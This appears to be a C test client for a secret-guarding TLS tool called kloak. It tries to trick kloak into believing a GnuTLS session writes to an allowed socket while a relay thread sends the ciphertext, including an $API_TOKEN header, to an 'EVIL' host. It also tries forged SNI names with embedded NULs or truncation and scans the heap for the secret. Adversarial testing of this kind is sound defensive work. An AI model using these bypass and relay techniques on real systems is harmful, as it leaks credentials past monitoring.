/*
 * A GnuTLS client that tries to make kloak believe its session writes to one
 * socket while the ciphertext goes to another, for test/runtime/gnutls.test.ts.
 *
 * Built by the test with gcc against the system's libgnutls.so.30 itself (no
 * -dev package: the few prototypes are declared here; GnuTLS 3.x keeps them).
 *
 *   gnutls_binding_client MODE ALLOWED_IP ALLOWED_PORT EVIL_IP EVIL_PORT SNI CAFILE
 *
 * MODE:
 *   control        set_int2(allowed fd): a plain, honest session
 *   push-then-int2 the app's push/pull functions relay through a socketpair
 *                  and a thread to EVIL; then set_int2(allowed fd), which
 *                  does not replace the app's functions: the library hands
 *                  them the allowed fd, they ignore it
 *   int2-then-push set_int2(allowed fd) first, the same relay installed after
 *   nul-sni        set_int2(allowed fd), SNI "SNI\0.kloak.test" (counted, a
 *                  NUL inside): a name that starts like the allowed one
 *   counted-sni    set_int2(allowed fd), SNI: the first strlen(SNI) bytes of
 *                  "SNI.kloak.test" (GnuTLS names are counted, not C strings)
 *   cork           set_int2(allowed fd); the request is sent corked
 *                  (gnutls_record_cork, send, gnutls_record_uncork), and the
 *                  heap is searched for $CHECK_VALUE (the real value, given
 *                  to this test client only to look for it) while the
 *                  request sits in the library's buffer and after the uncork:
 *                  prints CORKED_HEAP=clean|value, UNCORKED_HEAP=...
 * Sends one request with $API_TOKEN in a header; prints HANDSHAKE=ok, SENT=n.
 */
#define _GNU_SOURCE /* memmem */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

typedef void *gnutls_session_t;
typedef void *gnutls_certificate_credentials_t;
int gnutls_global_init(void);
int gnutls_certificate_allocate_credentials(gnutls_certificate_credentials_t *);
int gnutls_certificate_set_x509_trust_file(gnutls_certificate_credentials_t, const char *, int);
int gnutls_init(gnutls_session_t *, unsigned int);
int gnutls_set_default_priority(gnutls_session_t);
int gnutls_credentials_set(gnutls_session_t, int, void *);
int gnutls_server_name_set(gnutls_session_t, int, const void *, size_t);
void gnutls_session_set_verify_cert(gnutls_session_t, const char *, unsigned);
void gnutls_transport_set_int2(gnutls_session_t, int, int);
void gnutls_transport_set_push_function(gnutls_session_t, ssize_t (*)(void *, const void *, size_t));
void gnutls_transport_set_pull_function(gnutls_session_t, ssize_t (*)(void *, void *, size_t));
int gnutls_handshake(gnutls_session_t);
ssize_t gnutls_record_send(gnutls_session_t, const void *, size_t);
ssize_t gnutls_record_recv(gnutls_session_t, void *, size_t);
const char *gnutls_strerror(int);
void gnutls_deinit(gnutls_session_t);
void gnutls_record_cork(gnutls_session_t);
int gnutls_record_uncork(gnutls_session_t, unsigned int);
#define GNUTLS_CLIENT 2
#define GNUTLS_CRD_CERTIFICATE 1
#define GNUTLS_X509_FMT_PEM 1
#define GNUTLS_NAME_DNS 1
#define GNUTLS_RECORD_WAIT 1

static int pair[2]; /* [0]: the session's side, [1]: the relay's */
static int evil;

static ssize_t push(void *ignored, const void *buf, size_t len)
{
	return write(pair[0], buf, len);
}

static ssize_t pull(void *ignored, void *buf, size_t len)
{
	return read(pair[0], buf, len);
}

/* Moves bytes between the socketpair and the evil socket, on its own thread:
 * none of its sends happens inside a TLS call of the session's thread. */
static void *relay(void *arg)
{
	struct pollfd p[2] = { { .fd = pair[1], .events = POLLIN }, { .fd = evil, .events = POLLIN } };
	char buf[16384];
	ssize_t n;

	for (;;) {
		if (poll(p, 2, -1) < 0)
			return NULL;
		if (p[0].revents) {
			n = read(pair[1], buf, sizeof(buf));
			if (n <= 0 || write(evil, buf, n) != n)
				return NULL;
		}
		if (p[1].revents) {
			n = read(evil, buf, sizeof(buf));
			if (n <= 0 || write(pair[1], buf, n) != n)
				return NULL;
		}
	}
}

/* Does the process heap hold value? (/proc/self/maps [heap], read through /proc/self/mem) */
static const char *heap_has(const char *value)
{
	unsigned long lo, hi;
	char line[512], *buf;
	FILE *maps = fopen("/proc/self/maps", "r");
	FILE *mem = fopen("/proc/self/mem", "r");
	const char *found = "clean";

	if (!maps || !mem)
		exit(2);
	while (fgets(line, sizeof(line), maps)) {
		if (!strstr(line, "[heap]") || sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		buf = malloc(hi - lo);
		if (!buf || fseek(mem, lo, SEEK_SET) || fread(buf, 1, hi - lo, mem) != hi - lo)
			exit(2);
		if (memmem(buf, hi - lo, value, strlen(value)))
			found = "value";
		free(buf);
	}
	fclose(maps);
	fclose(mem);
	return found;
}

static int dial(const char *ip, int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0 || inet_pton(AF_INET, ip, &sa.sin_addr) != 1 || connect(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		perror(ip);
		exit(2);
	}
	return fd;
}

static void app_transport(gnutls_session_t s)
{
	pthread_t t;

	gnutls_transport_set_push_function(s, push);
	gnutls_transport_set_pull_function(s, pull);
	if (pthread_create(&t, NULL, relay, NULL))
		exit(2);
}

int main(int argc, char **argv)
{
	const char *mode = argv[1], *token = getenv("API_TOKEN");
	gnutls_certificate_credentials_t cred;
	gnutls_session_t s;
	char req[2048], sni[300], reply[512];
	const char *host, *cafile;
	int allowed, rc, len;

	if (argc != 8 || !token) {
		fprintf(stderr, "usage: API_TOKEN=... %s MODE ALLOWED_IP ALLOWED_PORT EVIL_IP EVIL_PORT SNI CAFILE\n", argv[0]);
		return 2;
	}
	host = argv[6];
	cafile = argv[7];
	allowed = dial(argv[2], atoi(argv[3]));
	evil = dial(argv[4], atoi(argv[5]));
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		return 2;
	gnutls_global_init();
	gnutls_certificate_allocate_credentials(&cred);
	gnutls_certificate_set_x509_trust_file(cred, cafile, GNUTLS_X509_FMT_PEM);
	gnutls_init(&s, GNUTLS_CLIENT);
	gnutls_set_default_priority(s);
	gnutls_credentials_set(s, GNUTLS_CRD_CERTIFICATE, cred);
	gnutls_session_set_verify_cert(s, host, 0);

	if (strcmp(mode, "nul-sni") == 0) {
		len = snprintf(sni, sizeof(sni), "%s%c.kloak.test", host, 0);
		rc = gnutls_server_name_set(s, GNUTLS_NAME_DNS, sni, len);
	} else if (strcmp(mode, "counted-sni") == 0) {
		snprintf(sni, sizeof(sni), "%s.kloak.test", host);
		rc = gnutls_server_name_set(s, GNUTLS_NAME_DNS, sni, strlen(host));
	} else {
		rc = gnutls_server_name_set(s, GNUTLS_NAME_DNS, host, strlen(host));
	}
	printf("SNI_SET=%d\n", rc);
	if (strcmp(mode, "push-then-int2") == 0)
		app_transport(s);
	gnutls_transport_set_int2(s, allowed, allowed);
	if (strcmp(mode, "int2-then-push") == 0)
		app_transport(s);

	rc = gnutls_handshake(s);
	if (rc < 0) {
		fprintf(stderr, "handshake: %s\n", gnutls_strerror(rc));
		return 1;
	}
	printf("HANDSHAKE=ok\n");
	len = snprintf(req, sizeof(req), "GET /b HTTP/1.1\r\nHost: x\r\nX-Key: %s\r\nConnection: close\r\n\r\n", token);
	if (strcmp(mode, "cork") == 0) {
		const char *value = getenv("CHECK_VALUE");

		if (!value)
			return 2;
		gnutls_record_cork(s);
		printf("SENT=%zd\n", gnutls_record_send(s, req, len));
		printf("CORKED_HEAP=%s\n", heap_has(value));
		printf("UNCORK=%d\n", gnutls_record_uncork(s, GNUTLS_RECORD_WAIT));
		printf("UNCORKED_HEAP=%s\n", heap_has(value));
	} else {
		printf("SENT=%zd\n", gnutls_record_send(s, req, len));
	}
	fflush(stdout);
	gnutls_record_recv(s, reply, sizeof(reply));
	gnutls_deinit(s);
	return 0;
}
